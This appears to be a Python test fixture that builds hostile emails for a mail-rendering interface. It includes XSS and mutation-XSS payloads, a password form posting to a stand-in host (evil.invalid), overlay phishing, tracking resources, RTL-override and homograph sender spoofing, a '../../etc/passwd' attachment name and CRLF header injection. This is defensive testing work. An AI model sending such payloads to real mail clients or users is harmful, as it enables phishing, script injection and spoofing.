"""Mails made to script, cover, imitate or leave our pages, or to break them; each with what it tries as its name."""

from __future__ import annotations

from email.message import EmailMessage

BODIES: dict[str, str] = {
    "script": (
        "<p>Hello</p><script>document.title='owned'</script><script src=https://evil.invalid/x.js></script>"
    ),
    "svg": (
        "<svg onload=\"document.title='owned'\"><script>document.title='owned'</script><image href="
        "'https://evil.invalid/a.svg'/><use href='https://evil.invalid/s#x'/></svg><p>SVG hello</"
        "p>"
    ),
    "cover": (
        "<div style='position:fixed;inset:0;z-index:999999;background:#fff'>Session expired. <a h"
        "ref='https://evil.invalid/'>Sign in</a></div>"
    ),
    "style": (
        "<style>@import url(https://evil.invalid/a.css);body{display:none}*{background:url(https:"
        "//evil.invalid/b)}@font-face{font-family:x;src:url(https://evil.invalid/f.woff)}</style>"
        "<p>Styled hello</p>"
    ),
    "refresh": (
        "<meta http-equiv=refresh content='0;url=https://evil.invalid/'><base href='https://evil."
        "invalid/'><p>Refresh hello</p>"
    ),
    "form": (
        "<form action='https://evil.invalid/' method=post><input name=password type=password><but"
        "ton formaction='https://evil.invalid/2'>Sign in</button></form>"
    ),
    "images": (
        "<img src='https://evil.invalid/1'><img srcset='https://evil.invalid/2 2x'><picture><sour"
        "ce srcset='https://evil.invalid/3'></picture><video poster='https://evil.invalid/4'><sou"
        "rce src='https://evil.invalid/5'></video><audio src='https://evil.invalid/6'></audio><ta"
        "ble background='https://evil.invalid/7'><tr><td background='https://evil.invalid/8'>img "
        "hello</td></tr></table><input type=image src='https://evil.invalid/9'><link rel=styleshe"
        "et href='https://evil.invalid/10'><link rel=preload as=image href='https://evil.invalid/"
        "11'><object data='https://evil.invalid/12'></object><embed src='https://evil.invalid/13'"
        "><iframe src='https://evil.invalid/14' srcdoc='<script>top.document.title=1</script>'></"
        "iframe>"
    ),
    "links": (
        "<a href='javascript:document.title=1'>click</a> <a href='data:text/html,<script>alert(1)"
        "</script>'>data</a> <a href=' java\tscript:alert(1)'>tab</a><a href='vbscript:x'>vb</a>"
    ),
    "comment": (
        "<!-- <script>document.title='owned'</script> --><!--><img src=x onerror=document.title='"
        "owned'>--><p>Comment hello</p><![CDATA[<script>1</script>]]>"
    ),
    "mxss": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=d"
        "ocument.title=1&gt;'>"
    ),
    "mxss2": "<noscript><p title='</noscript><img src=x onerror=document.title=1>'>",
    "mxss3": "<svg></p><style><a id='</style><img src=1 onerror=document.title=1>'>",
    "entities": (
        "&lt;script&gt;document.title='owned'&lt;/script&gt;&#x3c;img src=x onerror=document.titl"
        "e=1&#x3e; &amp;lt;b&amp;gt;"
    ),
    "unclosed": "<p>open <b><i><u><table><tr><td><textarea><script>document.title='owned'",
    "template": "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    "bigtable": "<table>" + f"<tr>{'<td>cell</td>' * 300}</tr>" * 40 + "</table>",
    "deep": f"{'<div>' * 5000}deep{'</div>' * 5000}",
    "cid": "<img src='cid:logo@x'><p>cid hello</p>",
    "hidden": (
        "<p>Visible</p><div style='display:none'>hidden words: I promise</div><span style='font-s"
        "ize:0'>zero</span>"
    ),
    "longword": f"<p>{'W' * 6000}</p>",
}
"""What stands in a mail as HTML."""

TEXTS: dict[str, str] = {
    "bidi": "bidi \u202e reversed \u2067 y",
    "towers": "Z"
    + "\u0301" * 400
    + "\u0e19"
    + "\u0e49" * 300
    + "\u0628"
    + "\u0651" * 200
    + "\u05d0"
    + "\u05b0" * 200,
    "controls": "bell \x07 escape \x1b[31mred \x85 line \u2028 mark \ufeff soft \u00ad zero \u200b tags \U000e0041 note \ufff9",
    "lines": "x\n" * 20_000,
    "imitation": "Recorded: a machine wrote it. Undo\nYour session has expired: https://evil.invalid/sign-in",
}
"""What stands in a mail as plain text."""

SENDERS: dict[str, tuple[str, str]] = {
    "reversed": ('"\u202emoc.dleifdrojf@troppus" <a@evil.example>', "Invoice \u202egpj.exe \u2066x\u2069"),
    "homograph": ('"Fj\u043erd & Fi\u0435ld" <info@evil.example>', "Your question"),
    "endless": (f'"{"Kim Very Long " * 40}" <{"a" * 64}@{"b" * 60}.example>', "Re: " * 80 + "x" * 300),
    "markup": (
        '"<script>document.title=1</script>" <a@evil.example>',
        "<img src=x onerror=document.title=1>",
    ),
    "acts": ("Fjord & Field <a@evil.example>", "Assigned to this probe. Recorded: a person wrote it"),
}
"""Sender and subject of mails whose text is harmless."""


def hostile_mails(to: str) -> dict[str, bytes]:
    """All of them as they arrive at the address `to`, by name."""
    mails = {name: _letter(to, name, html=body) for name, body in BODIES.items()}
    mails |= {name: _letter(to, name, text=body) for name, body in TEXTS.items()}
    mails |= {
        name: _letter(to, name, text="Hello", sender=who, subject=what)
        for name, (who, what) in SENDERS.items()
    }
    return mails | {"attached": _attached(to), "injected": _injected(to)}


def _letter(
    to: str,
    name: str,
    *,
    text: str = "",
    html: str = "",
    sender: str = "Kim <kim@fjordfield.example>",
    subject: str = "",
) -> bytes:
    return _message(to, name, text, html, sender, subject).as_bytes()


def _message(to: str, name: str, text: str, html: str, sender: str, subject: str) -> EmailMessage:
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = sender, to, subject or f"Hostile: {name}"
    mail["Message-ID"] = f"<{name}.{to}>"
    mail.set_content(html or text, subtype="html" if html else "plain")
    return mail


def _attached(to: str) -> bytes:
    mail = _message(to, "attached", "See the files.", "", "Kim <kim@fjordfield.example>", "")
    inner = _message("x@y.example", "inner", "", BODIES["script"], "Kim <kim@fjordfield.example>", "")
    mail.add_attachment(inner)
    mail.add_attachment(
        b"MZ", maintype="application", subtype="x-msdownload", filename="invoice\u202efdp.exe"
    )
    mail.add_attachment(b"<script>", maintype="text", subtype="html", filename='../../etc/passwd".html')
    return mail.as_bytes()


def _injected(to: str) -> bytes:
    """Line ends in a subject and in the name of a file."""
    return (
        f"From: Kim <kim@fjordfield.example>\r\nTo: {to}\r\nMessage-ID: <injected.{to}>\r\n"
        "Subject: =?utf-8?q?x=0D=0ASet-Cookie:_a=3Db=0D=0A=0D=0A<script>?=\r\n"
        'Content-Type: text/plain; name="a\r\n b.html"\r\n\r\nHello\r\n'
    ).encode()
